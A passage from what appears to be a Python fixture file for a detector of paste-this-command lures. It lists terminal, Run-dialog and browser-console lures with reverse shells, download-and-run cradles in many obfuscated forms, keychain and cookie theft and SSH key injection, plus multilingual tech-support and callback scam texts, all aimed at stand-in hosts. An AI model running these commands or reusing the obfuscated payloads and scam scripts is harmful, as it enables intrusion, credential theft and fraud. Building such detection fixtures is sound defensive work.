    "python3 -c \"import urllib.request as u;exec(u.urlopen('https://gpudrv-fix.test/m').read())\"",
    platform="macos",
)
L.lure(
    "macos-spotlight-terminal",
    TERM,
    CF2,
    "curl -fsSL https://cfverify-mac.example/v | sh"
    + pad(40)
    + "# Cloudflare: verify you are human (macOS)",
    platform="macos",
)
L.lure(
    "macos-hex",
    TERM,
    DISC,
    "echo " + kit.hex_str("curl -s https://dvrify-mac.invalid/s | bash") + " | xxd -r -p | sh",
    platform="macos",
)
L.lure(
    "macos-keychain",
    TERM,
    ICLOUD,
    "security dump-keychain -d login.keychain-db > /tmp/k.txt; curl -s -F f=@/tmp/k.txt https://kcsync.test/u",
    platform="macos",
)
L.lure(
    "macos-shamos",
    TERM,
    GITHUB,
    "cd ~ && curl -O https://repo-verify-gh.example/gh-helper && chmod +x gh-helper && ./gh-helper --verify",
    platform="macos",
)
L.lure(
    "macos-zsh-quote",
    TERM,
    BREW,
    "z''s''h -c \"$(c''u''r''l -fsSL https://hbrew-cdn.invalid/i)\"",
    platform="macos",
)
L.lure(
    "macos-osascript-dialog",
    TERM,
    APPLE,
    'osascript -e \'set p to text returned of (display dialog "macOS needs your password to finish the update" default answer "" with hidden answer)\' -e \'do shell script "curl -s -d pw=" & p & " https://macupd-auth.test/c"\'',
    platform="macos",
)
L.lure(
    "macos-crontab",
    TERM,
    DRIVER,
    '(crontab -l 2>/dev/null; echo "*/15 * * * * curl -s https://mcron-sync.example/c | sh") | crontab -',
    platform="macos",
)
L.lure(
    "macos-funzip",
    TERM,
    WP8,
    "curl -sL https://macrecipe-app.invalid/app.zip -o /tmp/a.zip && unzip -oq /tmp/a.zip -d /tmp/a && xattr -cr /tmp/a && open /tmp/a/RecipeBox.app",
    platform="macos",
)
L.lure(
    "macos-verify-tail",
    TERM,
    CF,
    'bash -c "$(curl -fsSL https://turnstile-mac.test/a)"'
    + pad(30)
    + "# I am not a robot \u2014 Cloudflare Ray ID 7b2e",
    platform="macos",
)

# ----------------------------------------------------------------------------------------------
# F. Linux terminal lures
# ----------------------------------------------------------------------------------------------

L.lure(
    "linux-curl-sudo",
    TERM,
    DRIVER,
    "curl -s http://nvfix-linux.test/x.sh | sudo bash  # fix NVIDIA 550 black screen",
    platform="linux",
)
L.lure(
    "linux-wget-sh",
    TERM,
    CF,
    "wget -qO- https://cfcheck-lnx.example/a | sh" + pad(40) + "# verify you are human",
    platform="linux",
)
L.lure(
    "linux-devtcp", TERM, CHATGPT, "bash -i >& /dev/tcp/203.0.113.122/4444 0>&1", platform="linux"
)
L.lure(
    "linux-python-pty",
    TERM,
    GITHUB,
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.148",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")\'',
    platform="linux",
)
L.lure(
    "linux-perl",
    TERM,
    WP4,
    "perl -MLWP::Simple -e 'eval get(\"https://perlfix.invalid/p\")'",
    platform="linux",
)
L.lure(
    "linux-crontab",
    TERM,
    DRIVER,
    '(crontab -l; echo "*/10 * * * * wget -qO- https://lnxcron.test/c|sh") | crontab -',
    platform="linux",
)
L.lure(
    "linux-b64",
    TERM,
    GITHUB,
    "echo " + kit.b64("curl -fsSL https://ghsa-patch.example/p.sh | bash") + " | base64 -d | bash",
    platform="linux",
)
L.lure(
    "linux-sh-wget",
    TERM,
    STEAM,
    'sh -c "$(wget -O- https://deckfix-steam.invalid/s)"  # Steam Deck controller fix',
    platform="linux",
)
L.lure(
    "linux-php",
    TERM,
    WP3,
    "php -r 'eval(file_get_contents(\"https://phpfix.test/e\"));'",
    platform="linux",
)
L.lure(
    "linux-bashrc",
    TERM,
    CHATGPT,
    "echo 'curl -s https://shellhelper-ai.example/b | bash &' >> ~/.bashrc && source ~/.bashrc",
    platform="linux",
)
L.lure(
    "linux-ssh-key",
    TERM,
    GITHUB,
    "mkdir -p ~/.ssh && curl -s https://keysync-gh.invalid/k >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys  # enable repo verification",
    platform="linux",
)
L.lure(
    "linux-tmp-exec",
    TERM,
    DRIVER,
    "curl -so /tmp/.x https://gpu-tune.test/bin && chmod +x /tmp/.x && /tmp/.x -d",
    platform="linux",
)
L.lure(
    "linux-rev",
    TERM,
    CF2,
    "echo 'hsab | q/elpmaxe.xifnl-ftolc//:sptth Lsf- lruc' | rev | sh",
    platform="linux",
)
L.lure(
    "linux-dollar-quote",
    TERM,
    WP10,
    "$'\\x63\\x75\\x72\\x6c' -s https://quotefix.invalid/q | $'\\x73\\x68'",
    platform="linux",
)
L.lure(
    "linux-busybox",
    TERM,
    DRIVER,
    "busybox wget -qO /tmp/m http://192.0.2.253/m && chmod 777 /tmp/m && /tmp/m",
    platform="linux",
)

# ----------------------------------------------------------------------------------------------
# G. Browser console (self-XSS): Discord, Steam, Roblox, "verification" pages
# ----------------------------------------------------------------------------------------------

L.lure(
    "console-fetch-eval",
    CON,
    DISC,
    "fetch('https://dcverify-bot.test/v.js').then(r=>r.text()).then(eval)",
)
L.lure(
    "console-atob",
    CON,
    ROBLOX,
    "eval(atob('"
    + kit.b64("fetch('https://rbxclaim.example/c',{method:'POST',body:document.cookie})")
    + "'))",
)
L.lure("console-getscript", CON, STEAM, "$.getScript('https://steamtrade-helper.invalid/t.js')")
L.lure(
    "console-function",
    CON,
    FACEBOOK,
    "new Function(atob('"
    + kit.b64(
        "s=document.createElement('script');s.src='https://fbappeal-js.test/a.js';document.body.appendChild(s)"
    )
    + "'))()",
)
L.lure(
    "console-script-tag",
    CON,
    TIKTOK,
    "var s=document.createElement('script');s.src='https://creatorjs.example/badge.js';document.head.appendChild(s);",
)
L.lure(
    "console-discord-token",
    CON,
    DISC,
    "(webpackChunkdiscord_app.push([[Symbol()],{},r=>{for(const m of Object.values(r.c)){try{const t=m.exports.default.getToken();"
    "if(t){fetch('https://dvguard.invalid/t?v='+encodeURIComponent(t))}}catch(e){}}}]),webpackChunkdiscord_app.pop())",
)
L.lure(
    "console-fromcharcode",
    CON,
    ROBLOX,
    "eval(String.fromCharCode("
    + kit.char_codes("fetch('https://robuxgen.test/r').then(r=>r.text()).then(eval)")
    + "))",
)
L.lure(
    "console-cookie-exfil",
    CON,
    STEAM,
    "new Image().src='https://steamck.example/c?d='+btoa(document.cookie+localStorage.getItem('session'))",
)
L.lure(
    "console-import", CON, NOTION, "import('https://notionjs-cdn.invalid/m.mjs').then(m=>m.run())"
)
L.lure(
    "console-bracket",
    CON,
    DISC,
    "window['ev'+'al'](window['at'+'ob']('"
    + kit.b64("fetch('https://dverif.test/x').then(r=>r.text()).then(eval)")
    + "'))",
)
L.lure(
    "console-bookmarklet",
    CON,
    ROBLOX,
    "   javascript:void(fetch('https://rblx-items.example/i').then(r=>r.text()).then(t=>eval(t)))",
)
L.lure(
    "console-unicode",
    CON,
    FACEBOOK,
    "eval('"
    + kit.js_uni("fetch('https://metaappeal.invalid/j').then(r=>r.text()).then(eval)")
    + "')",
)
L.lure(
    "console-localstorage",
    CON,
    DISC,
    "fetch('https://dcstore.test/s',{method:'POST',body:JSON.stringify(Object.assign({},localStorage))})",
)
L.lure(
    "console-setinterval",
    CON,
    STEAM,
    "setTimeout(atob('"
    + kit.b64(
        "document.body.appendChild(Object.assign(document.createElement('script'),{src:'https://stmjs.example/z.js'}))"
    )
    + "'),100)",
)

# ----------------------------------------------------------------------------------------------
# H. Fixture-style obfuscations (as other detectors' test files spell them): half bare, half on a page
# ----------------------------------------------------------------------------------------------

L.ioc("obf-ps-alias-wildcard", 'powershell -w h -c "&(gal i?x) (&(gcm i?m) https://galvix.test/a)"')
L.ioc(
    "obf-ps-alias-wildcard",
    "powershell -c \"& (gcm *ke-Ex*) ((& (gcm *b-Req*) 'https://wildcmd.example/p' -UseB).Content)\"",
)
L.ioc(
    "obf-ps-dir-lookup", 'powershell -c "& (gci C:\\W*\\S*32\\m?h?a.e*) https://dirmsh.invalid/h"'
)
L.ioc(
    "obf-ps-pshome",
    "powershell -c \".( $PSHome[4]+$PSHome[30]+'x') (New-Object Net.WebClient).DownloadString('https://pshidx.test/s')\"",
)
L.ioc(
    "obf-ps-comspec-join",
    "powershell -c \"&($env:ComSpec[4,15,25]-join'') (irm https://cspjoin.example/c)\"",
)
L.ioc(
    "obf-ps-format",
    'powershell -c "iex (irm '
    + kit.ps_format("https://fmtorder.invalid/payload").replace('"', "'")
    + ')"',
)
L.ioc(
    "obf-ps-concat",
    'powershell -w h -c "iex (New-Object Net.WebClient).DownloadString('
    + kit.ps_concat("https://concatd.test/x.ps1")
    + ')"',
)
L.ioc(
    "obf-ps-charcodes",
    "powershell -c \"iex ([string]::Join('',[char[]]("
    + kit.char_codes("iwr https://chrcode.example/q|iex")
    + ')))"',
)
L.ioc(
    "obf-ps-backticks",
    "powershell -c \"i`e`x (n`ew-obj`ect Ne`t.We`bCli`ent).Down`loadStr`ing('https://btick.invalid/b')\"",
)
L.ioc(
    "obf-ps-replace", "powershell -c \"iex ('iQwr https://rplce.test/r QQ| iQex' -replace 'Q','')\""
)
L.ioc(
    "obf-ps-reverse",
    "powershell -c \"$s='"
    + kit.reverse("iex (irm https://revstr.example/v)")
    + "';iex (-join $s[-1..-($s.Length)])\"",
)
L.ioc(
    "obf-ps-xor",
    'powershell -c "iex (-join (('
    + kit.xor_codes("irm https://xork.invalid/k | iex", 23)
    + ')|%{[char]($_ -bxor 23)}))"',
)
L.ioc(
    "obf-ps-unicode-b64",
    "powershell -c \"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('"
    + kit.b64_utf16("iwr https://unib64.test/u | iex")
    + "')))\"",
)
L.ioc(
    "obf-ps-unescape",
    "powershell -c \"iex ([Uri]::UnescapeDataString('"
    + "".join(f"%{b:02X}" for b in b"irm https://unesc.example/e|iex")
    + "'))\"",
)
L.ioc(
    "obf-ps-mixedcase",
    'POwErSHelL -WiNdOwStYlE hIdDeN -eXeCuTiOnPoLiCy bYpAsS -CoMmAnD "InVoKe-ExPrEsSiOn (iNvOkE-rEsTmEtHoD hTtPs://mxcase.invalid/m)"',
)
L.ioc("obf-ps-sal", 'powershell -c "sal q iex; sal w irm; q (w https://salias.test/s)"')
L.ioc(
    "obf-ps-scriptblock",
    "powershell -c \"[ScriptBlock]::Create((New-Object Net.WebClient).DownloadString('https://sblock.example/b')).Invoke()\"",
)
L.ioc(
    "obf-ps-gzip",
    "powershell -c \"iex (New-Object IO.StreamReader(New-Object IO.Compression.GZipStream([IO.MemoryStream][Convert]::FromBase64String('"
    + kit.gzip_b64("iex (irm https://gzstage.invalid/g)")
    + "'),0))).ReadToEnd()\"",
)
L.ioc(
    "obf-ps-member-string",
    "powershell -c \"$w=New-Object ('Net.'+'Web'+'Client');iex $w.('Down'+'load'+'String').Invoke('https://mbrstr.test/m')\"",
)
L.ioc(
    "obf-ps-env-staging", 'cmd /c "set u=https://envstg.example/e&& powershell -c iex (irm $env:u)"'
)
L.ioc(
    "obf-cmd-carets",
    'c^m^d /c p^o^w^e^r^s^h^e^l^l -w h -c "i^w^r https://caretz.invalid/c | i^e^x"',
)
L.ioc(
    "obf-cmd-slice",
    'cmd /v:on /c "set z=lwsophea rnt&&call '
    + kit.cmd_slice("powershell", "lwsophea rnt", "z")
    + ' -c iwr https://slicevar.test/s^|iex"',
)
L.ioc("obf-cmd-delayed", 'cmd /v:on /c "set a=ms&&set b=hta&&!a!!b! https://delayx.example/d"')
L.ioc(
    "obf-cmd-env-path",
    '%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w 1 -c "iwr https://envpath.invalid/p -UseB|iex"',
)
L.ioc("obf-cmd-quotes", 'c"m"d /c "p"ow"ers"hell -w h -c ""irm https://qinsert-cdn.test/q|iex""')

OBF_PAGES = [
    (
        "obf-ps-alias-wildcard",
        WP1,
        'powershell -w h -c "&(gal ?e?) (&(gal i?m) https://sbakery-cdn.example/w)"'
        + pad(40)
        + ROBOT
        + "22817",
    ),
    (
        "obf-ps-format",
        WP2,
        "powershell -c \"&('{1}{0}'-f'ex','i') (irm ('{0}{2}{1}'-f'https://','/v','hutsync.invalid'))\""
        + pad(30)
        + HUMAN
        + "bb1204",
    ),
    (
        "obf-ps-charcodes",
        CF,
        'powershell -c "iex (-join [char[]]('
        + kit.char_codes("irm https://cfchars.test/k|iex")
        + '))"'
        + pad(50)
        + ROBOT
        + "61530",
    ),
    (
        "obf-ps-backticks",
        MEET,
        'powershell -w h -c "I`nv`oke-Ex`pres`sion (I`nv`oke-Re`stMe`thod https://meetaud.example/b)" # Meet audio fix',
    ),
    (
        "obf-ps-reverse",
        ZOOM,
        "powershell -c \"iex ((-join ('"
        + kit.reverse("iwr https://zmrev.invalid/z|iex")
        + "'[-1..-"
        + str(len("iwr https://zmrev.invalid/z|iex"))
        + '])))" # Zoom connector',
    ),
    (
        "obf-ps-b64",
        BOOK,
        "powershell -enc "
        + kit.b64_utf16("iex (New-Object Net.WebClient).DownloadString('https://bkguest.test/g')")
        + pad(40)
        + "# Booking.com guest verification",
    ),
    (
        "obf-ps-pshome",
        DOCU,
        "powershell -w h -c \"&( $pshome[21]+$pshome[30]+'x') (irm https://dsignview.example/d)\"  # open envelope",
    ),
    (
        "obf-cmd-carets",
        CF2,
        'c^md /c "m^sh^ta ht^tps://caretcf.invalid/v"' + pad(40) + HUMAN + "4a7f10",
    ),
    (
        "obf-cmd-slice",
        WP3,
        'cmd /c "set q=tshma&&call %q:~3,1%%q:~1,1%%q:~2,1%%q:~0,1%%q:~4,1% https://dentslice.test/h"',
    ),
    (
        "obf-ps-mixedcase",
        WP4,
        'pOWErsHELl -W H -c "IeX(iWr hTTps://tilemix.example/t -uSEb)"' + pad(40) + ROBOT + "77190",
    ),
    (
        "obf-ps-env-staging",
        WP5,
        'cmd /c "set x=powe&&set y=rshell&&call %x%%y% -w h -c irm https://marinaenv.invalid/m^|iex"'
        + pad(30)
        + "# Verify you are human",
    ),
    (
        "obf-ps-unescape",
        MSERR,
        "powershell -c \"iex ([Uri]::UnescapeDataString('"
        + "".join(f"%{b:02x}" for b in b"iwr https://oufix-esc.test/o|iex")
        + "'))\" # Outlook repair",
    ),
    (
        "obf-ps-hex",
        TEAMS,
        "powershell -c \"iex (-join ('"
        + kit.hex_str("irm https://tmshex.example/h|iex")
        + "' -split '(?<=\\G..)' | ? {$_} | % {[char][Convert]::ToInt32($_,16)}))\" # Teams",
    ),
    (
        "obf-ps-gzip",
        GCAP,
        "powershell -w h -c \"$s=[IO.MemoryStream][Convert]::FromBase64String('"
        + kit.gzip_b64("irm https://gzcap.invalid/c | iex")
        + "');iex (New-Object IO.StreamReader(New-Object IO.Compression.GZipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
    ),
    (
        "obf-ps-join-split",
        WP6,
        "powershell -c \"iex (('irm|https://choirsplit.test/s|| iex' -split '\\|') -join ' ')\""
        + pad(40)
        + ROBOT
        + "30214",
    ),
    (
        "obf-js-hex",
        DISC,
        "eval('"
        + kit.esc_hex("fetch('https://dchex.example/x').then(r=>r.text()).then(eval)")
        + "')",
    ),
]
for tech, page, text in OBF_PAGES:
    L.lure(tech, CON if tech.startswith("obf-js") else RUN, page, text)
# the same shapes in a Linux/macOS terminal, bare
L.ioc("obf-sh-ifs", "c${IFS}u${IFS}r${IFS}l -s https://ifsgap.test/i|sh", TERM, "linux")
L.ioc(
    "obf-sh-hex-printf",
    "$(printf '\\x63\\x75\\x72\\x6c') -fsSL https://prfhex.example/p | $(printf '\\x62\\x61\\x73\\x68')",
    TERM,
    "linux",
)
L.ioc(
    "obf-sh-var-indirection",
    "a=cu;b=rl;c=ba;d=sh;$a$b -s https://varind.invalid/v | $c$d",
    TERM,
    "linux",
)
L.ioc("obf-sh-octal", "$'" + kit.esc_oct("curl") + "' -s https://octsh.test/o | sh", TERM, "macos")
L.ioc(
    "obf-sh-b64-nested",
    "echo "
    + kit.b64(kit.b64("curl -s https://nestb64.example/n | bash"))
    + " | base64 -d | base64 -d | bash",
    TERM,
    "linux",
)

# ----------------------------------------------------------------------------------------------
# I. Bare IOC commands as vendor reports list them: no page, only where they were pasted
# ----------------------------------------------------------------------------------------------

IOC_RUN = [
    ("ioc-ps-cradle", 'powershell -w h -c "iex(irm https://lumaric.test/c.txt)"'),
    (
        "ioc-ps-cradle",
        "powershell -nop -w hidden -c \"IEX ((new-object net.webclient).downloadstring('http://198.51.100.250:8080/a'))\"",
    ),
    (
        "ioc-ps-cradle",
        'PowerShell -NoProfile -ExecutionPolicy Bypass -Command "irm https://sevrin-gate.example/stage2 | iex"',
    ),
    (
        "ioc-ps-cradle",
        'powershell.exe -c "iwr -uri https://ketterby.invalid/u.txt -outfile c:\\users\\public\\u.hta; start-process c:\\users\\public\\u.hta"',
    ),
    (
        "ioc-ps-cradle",
        'powershell -w 1 -ep unrestricted -nop -c "iex (iwr https://brandmoor.test/v -UseBasicParsing).Content"',
    ),
    (
        "ioc-ps-download-run",
        'powershell -c "Invoke-WebRequest https://fellgate.example/Setup.exe -OutFile $env:TEMP\\s.exe; & $env:TEMP\\s.exe"',
    ),
    (
        "ioc-ps-download-run",
        'powershell -w h -c "(New-Object Net.WebClient).DownloadFile(\'https://coldharbor.invalid/d.exe\',\\"$env:APPDATA\\d.exe\\");Start-Process \\"$env:APPDATA\\d.exe\\""',
    ),
    ("ioc-mshta", "mshta https://quenby.test/gate"),
    ("ioc-mshta", "mshta http://203.0.113.236/b.hta"),
    ("ioc-mshta", "mshta.exe https://holtwick.example/x/verify.html"),
    ("ioc-msiexec", "msiexec /i https://lindisfarn.invalid/app.msi /qn"),
    ("ioc-msiexec", "msiexec.exe /q /i http://192.0.2.252/pkg"),
    ("ioc-rundll32", "rundll32.exe \\\\whitmore-dav.test@SSL\\x\\m.dll,verifyme"),
    ("ioc-regsvr32", "regsvr32.exe /s /i:https://stanegate.example/p.sct scrobj.dll"),
    ("ioc-certutil", "certutil.exe -urlcache -f https://wrexley.invalid/w.exe %PUBLIC%\\w.exe"),
    (
        "ioc-bitsadmin",
        "bitsadmin /transfer n https://calderbrook.test/n.exe C:\\Users\\Public\\n.exe",
    ),
    ("ioc-finger", "cmd /c finger qrx@droitwich.example | cmd"),
    (
        "ioc-nslookup",
        'cmd /c "nslookup -q=txt x.pembury.invalid 203.0.113.254 | find "$" > %tmp%\\x.ps1 & powershell -ep bypass -f %tmp%\\x.ps1"',
    ),
    ("ioc-curl-cmd", "cmd /c curl -sL https://aldmoor.test/r.bat -o %TEMP%\\r.bat & %TEMP%\\r.bat"),
    ("ioc-curl-cmd", "curl.exe -k https://fenwick-cdn.example/i.cmd | cmd"),
    (
        "ioc-conhost",
        'conhost --headless cmd /c "curl -s https://glenridd.invalid/c -o %tmp%\\c.cmd & %tmp%\\c.cmd"',
    ),
    ("ioc-syncappv", 'SyncAppvPublishingServer.vbs "Break; iwr https://ashbourne.test/s | iex"'),
    ("ioc-webdav", "net use X: \\\\kirkby-dav.example@SSL\\w & X:\\run.cmd"),
    ("ioc-wscript", "wscript.exe \\\\198.51.100.251\\s\\setup.vbs"),
    ("ioc-hta-unc", "mshta \\\\203.0.113.249\\webdav\\page.hta"),
    (
        "ioc-ps-b64",
        "powershell -ep bypass -e " + kit.b64_utf16("iwr https://encdl.invalid/e.ps1 -UseB | iex"),
    ),
    (
        "ioc-ps-ftp",
        "powershell -c \"iex ((New-Object Net.WebClient).DownloadString('ftp://192.0.2.59/p.txt'))\"",
    ),
]
for tech, text in IOC_RUN:
    L.ioc(tech, text)
# an address alone is allowed in the Run dialog; a double extension on a download is worth a warning
L.append(
    (
        "ioc-explorer-url",
        RUN,
        None,
        "https://dorrington.test/files/Scan_20261201.pdf.exe",
        "flagged",
        "windows",
    )
)
IOC_TERM = [
    ("ioc-curl-bash", "curl -fsSL https://mallenby.example/i.sh | bash", "macos"),
    ("ioc-curl-bash", "curl -s http://203.0.113.247/a.sh | nohup bash &", "linux"),
    ("ioc-osascript", "curl -s https://pennick.invalid/s.scpt | osascript", "macos"),
    (
        "ioc-b64-bash",
        "echo " + kit.b64("curl -fsSL https://saxilby.test/m | bash") + " | base64 -d | bash",
        "macos",
    ),
    (
        "ioc-xattr",
        "curl -o /tmp/helper https://burnside-mac.example/h && xattr -d com.apple.quarantine /tmp/helper && chmod +x /tmp/helper && /tmp/helper",
        "macos",
    ),
    ("ioc-wget-sh", "wget -q -O - http://198.51.100.254/x | sh", "linux"),
    (
        "ioc-python-exec",
        "python3 -c \"exec(__import__('urllib.request').request.urlopen('https://ravelstone-cdn.invalid/p').read())\"",
        "linux",
    ),
    ("ioc-php-eval", "php -r 'eval(file_get_contents(\"http://192.0.2.97/e.txt\"));'", "linux"),
    (
        "ioc-nc",
        "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.41 4443 >/tmp/f",
        "linux",
    ),
    ("ioc-ps-terminal", "irm https://scarrow.test/ps | iex", "windows"),
    ("ioc-ps-terminal", "iex (iwr https://wendover-gate.example/t -UseBasicParsing)", "windows"),
    ("ioc-zsh-curl", 'zsh -c "$(curl -fsSL https://hexham-mac.invalid/z)"', "macos"),
]
for tech, text, plat in IOC_TERM:
    L.ioc(tech, text, TERM, plat)

# ----------------------------------------------------------------------------------------------
# J. Tech-support scam texts with a phone number, in many languages (copied off a locked page)
# ----------------------------------------------------------------------------------------------

TS1 = "https://windows-defender-alert.test/warning/0x8024"
TS2 = "https://microsoft-security-centre.example/blocked"
TS3 = "https://apple-icloud-locked.invalid/support"
TS4 = "https://isp-network-suspended.test/notice"
SCAMS = [
    (
        "en",
        TS1,
        "** WINDOWS DEFENDER SECURITY WARNING **\nAccess to this PC has been blocked for security reasons. Trojan Spyware detected: Win32/Keylogger.Ex\nYour passwords, banking details and photos are at risk. Do not restart or shut down your computer.\nCall Microsoft Support immediately: +1 (555) 014-7732 (Toll Free)",
    ),
    (
        "en",
        TS4,
        "Your internet service has been temporarily SUSPENDED because suspicious activity was detected from your IP address. To restore your connection, call the Network Security Department at 1-555-019-2280 within 30 minutes. Failure to call will result in permanent disconnection.",
    ),
    (
        "de",
        TS2,
        "Achtung! Ihr Computer wurde gesperrt. Wir haben einen gefährlichen Virus (Trojaner.Zeus) auf Ihrem Gerät entdeckt. Ihre Bankdaten und Passwörter sind in Gefahr. Schalten Sie den PC nicht aus. Rufen Sie sofort den Microsoft-Support an: +49 555 8820 1147 (kostenlos).",
    ),
    (
        "fr",
        TS1,
        "ALERTE DE SÉCURITÉ WINDOWS : votre ordinateur est bloqué. Un logiciel espion a été détecté et vos données bancaires risquent d'être volées. N'éteignez pas votre appareil. Appelez immédiatement l'assistance Microsoft au +33 5 55 41 20 87 (appel gratuit).",
    ),
    (
        "es",
        TS2,
        "¡Advertencia! Su equipo ha sido bloqueado por actividad sospechosa. Se detectó un virus que está robando sus contraseñas. No cierre esta página ni apague el ordenador. Llame ahora al soporte técnico de Windows: +34 555 902 418.",
    ),
    (
        "it",
        TS1,
        "AVVISO DI SICUREZZA: il tuo computer è stato bloccato a causa di un'infezione da malware. I tuoi dati personali e le credenziali bancarie sono a rischio. Non riavviare il PC. Chiama subito l'assistenza Microsoft al numero verde +39 555 018 4420.",
    ),
    (
        "pt",
        TS2,
        "Alerta de segurança do Windows! O seu computador foi bloqueado porque detetámos um vírus perigoso. As suas palavras-passe e dados do cartão estão em risco. Não desligue o computador. Ligue já para o suporte técnico: +351 555 210 734.",
    ),
    (
        "pt-br",
        TS4,
        "Seu acesso à internet foi BLOQUEADO por atividade suspeita no seu IP. Para evitar o cancelamento da linha, ligue agora para a central de segurança: 0800 555 4471. Não feche esta janela.",
    ),
    (
        "nl",
        TS1,
        "Waarschuwing: uw computer is geblokkeerd. Er is een gevaarlijk virus gevonden dat uw wachtwoorden en bankgegevens steelt. Zet uw computer niet uit. Bel direct de Microsoft-helpdesk: +31 555 208 914 (gratis).",
    ),
    (
        "pl",
        TS2,
        "UWAGA! Twój komputer został zablokowany z powodu wykrycia wirusa. Twoje hasła i dane bankowe są zagrożone. Nie wyłączaj komputera. Zadzwoń natychmiast do pomocy technicznej Microsoft: +48 555 301 872.",
    ),
    (
        "tr",
        TS1,
        "Windows Güvenlik Uyarısı: Bilgisayarınız kilitlendi! Cihazınızda tehlikeli bir virüs tespit edildi, banka bilgileriniz ve şifreleriniz risk altında. Bilgisayarınızı kapatmayın. Hemen Microsoft Destek hattını arayın: +90 555 412 77 03.",
    ),
    (
        "ru",
        TS2,
        "ВНИМАНИЕ! Ваш компьютер заблокирован из-за обнаружения вируса. Ваши пароли и банковские данные под угрозой. Не выключайте компьютер. Срочно позвоните в службу поддержки Microsoft: +7 555 214-88-19.",
    ),
    (
        "ja",
        TS1,
        "【警告】お使いのコンピューターはウイルスに感染しているためブロックされました。個人情報とクレジットカード情報が盗まれる危険があります。電源を切らないでください。今すぐマイクロソフト サポートにお電話ください：050-555-0127（無料）",
    ),
    (
        "zh",
        TS2,
        "安全警告：您的电脑已被锁定！检测到危险病毒正在窃取您的银行账户和密码。请勿关闭或重启电脑。请立即拨打微软技术支持热线：+86 555 0109 3321。",
    ),
    (
        "ar",
        TS1,
        "تحذير أمني من ويندوز: تم حظر جهاز الكمبيوتر الخاص بك بسبب اكتشاف فيروس خطير. بياناتك المصرفية وكلمات المرور معرضة للخطر. لا تقم بإيقاف تشغيل الجهاز. اتصل فوراً بالدعم الفني لمايكروسوفت على الرقم ‎+971 555 018 442",
    ),
    (
        "ko",
        TS2,
        "경고: 귀하의 컴퓨터가 바이러스 감염으로 차단되었습니다. 은행 정보와 비밀번호가 유출될 위험이 있습니다. 컴퓨터를 끄지 마십시오. 지금 즉시 Microsoft 고객지원센터로 전화하십시오: +82 555 7012 3344",
    ),
    (
        "sv",
        TS1,
        "Varning! Din dator har låsts eftersom ett farligt virus har upptäckts. Dina lösenord och bankuppgifter är i fara. Stäng inte av datorn. Ring Microsoft-supporten omedelbart: +46 555 180 221.",
    ),
    (
        "cs",
        TS2,
        "Upozornění: Váš počítač byl zablokován kvůli nebezpečnému viru. Vaše hesla a bankovní údaje jsou v ohrožení. Počítač nevypínejte. Ihned zavolejte technickou podporu Microsoft: +420 555 801 226.",
    ),
    (
        "ro",
        TS1,
        "Avertisment de securitate: computerul dumneavoastră a fost blocat din cauza unui virus periculos. Datele bancare și parolele sunt în pericol. Nu opriți calculatorul. Sunați imediat la asistența Microsoft: +40 555 317 904.",
    ),
    (
        "en-apple",
        TS3,
        "Your iCloud account has been locked due to unusual sign-in activity from another country. Your photos and payment information may be compromised. Call Apple Support now at +1-555-203-8816 to unlock your account. Do not attempt to reset your password.",
    ),
    (
        "fr-apple",
        TS3,
        "Votre identifiant Apple a été verrouillé pour des raisons de sécurité. Une connexion suspecte a été détectée. Pour le débloquer, appelez l'assistance Apple au 01 55 55 27 40 dans les 24 heures.",
    ),
    (
        "hi",
        TS4,
        "चेतावनी! आपके कंप्यूटर में खतरनाक वायरस पाया गया है और इसे ब्लॉक कर दिया गया है। आपकी बैंक जानकारी खतरे में है। कंप्यूटर बंद न करें। तुरंत माइक्रोसॉफ्ट सपोर्ट को कॉल करें: +91 555 2019 4410",
    ),
]
for lang, page, text in SCAMS:
    L.lure(f"support-scam-{lang}", UNK, page, text, expect="flagged")

# ----------------------------------------------------------------------------------------------
# K. Callback phishing: an order or renewal "you did not place", call to cancel
# ----------------------------------------------------------------------------------------------

CALLBACKS = [
    (
        "en",
        PAYPAL,
        "PayPal: Your payment of $749.99 to Coinbase Global has been processed. If you did not authorize this transaction, call PayPal Resolution Center at +1 (555) 017-3320 to cancel and receive a full refund within 24 hours.",
    ),
    (
        "en",
        None,
        "Norton 360 Total Protection - Auto Renewal Confirmation\nInvoice #NRT-88419203  Amount charged: $399.99\nYour subscription has been renewed for 3 years. If you wish to cancel and get a refund, please contact our billing department within 24 hours: 1-555-022-4719",
    ),
    (
        "de",
        None,
        "Bestellbestätigung Nr. DE-7781934: Ihr Apple iPhone 17 Pro (1.499,00 €) wird heute versendet. Falls Sie diese Bestellung nicht getätigt haben, rufen Sie umgehend unseren Kundendienst an: +49 555 4412 089, um die Zahlung zu stornieren.",
    ),
    (
        "fr",
        None,
        "Confirmation de renouvellement McAfee Total Protection : 349,99 € ont été débités de votre compte. Si vous n'êtes pas à l'origine de ce renouvellement, appelez le service facturation au +33 5 55 62 18 40 pour obtenir un remboursement.",
    ),
    (
        "es",
        DHL,
        "DHL Express: su paquete JD0146000 está retenido en aduana. Debe abonar una tasa de 2,99 € o llamar al +34 555 310 227 para confirmar sus datos antes de 48 horas; de lo contrario, el envío será devuelto.",
    ),
    (
        "en",
        None,
        "Geek Squad Billing: Thank you for your purchase. Your card will be charged $489.00 for the annual tech protection plan today. To dispute or cancel this charge call our help desk at +1 555 020 6613. Order ID GS-77104",
    ),
    (
        "it",
        None,
        "Gentile cliente, il suo abbonamento Amazon Prime è stato rinnovato per 299,00 €. Se non ha richiesto il rinnovo, chiami entro oggi il numero +39 555 612 0834 per annullare l'addebito.",
    ),
    (
        "en",
        None,
        "Coinbase security: a withdrawal of 0.8421 BTC to an unrecognized wallet was requested from your account. If this was not you, call Coinbase Support at +1-555-011-9402 immediately to freeze the transfer.",
    ),
]
for lang, page, text in CALLBACKS:
    L.lure(f"callback-{lang}", UNK, page, text, expect="flagged")

# ----------------------------------------------------------------------------------------------
# L. ConsentFix (a loopback redirect with an authorisation code, pasted back into a page),
#    device-code phishing and fake verification tails after an address
# ----------------------------------------------------------------------------------------------

CONSENT = "https://azure-cli-verify.test/connect"
L.lure(
    "consentfix",
    UNK,
    CONSENT,
